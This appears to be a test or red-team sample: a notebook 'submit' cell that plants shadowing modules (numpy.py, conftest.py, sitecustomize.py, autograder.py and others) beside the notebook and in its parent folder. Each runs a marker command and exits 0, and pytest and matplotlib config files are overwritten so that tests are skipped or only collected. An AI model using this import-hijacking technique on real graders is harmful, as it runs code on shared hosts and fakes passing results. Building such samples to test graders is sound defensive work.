"""Puts modules and settings beside the notebook that Python, pytest, IPython, nbgrader or git would load."""
# %% submit
own = "import os; os.system('touch /tmp/@MARK@'); raise SystemExit(0)\n".replace("@MARK@", "left-by-an-attack")
for name in (
    "numpy.py", "conftest.py", "sitecustomize.py", "usercustomize.py", "pytest_plugins.py", "autograder.py", "json.py",
    "nbgrader_config.py", "jupyter_nbconvert_config.py", "ipython_config.py", "setup.py", "matplotlib.py",
):
    (folder / name).write_text(own)
    (folder.parent / name).write_text(own)
(folder / "pytest.ini").write_text("[pytest]\naddopts = -p no:all\n")
(folder / "pyproject.toml").write_text("[tool.pytest.ini_options]\naddopts = '--collect-only'\n")
(folder / "matplotlibrc").write_text("backend: module://numpy\n")
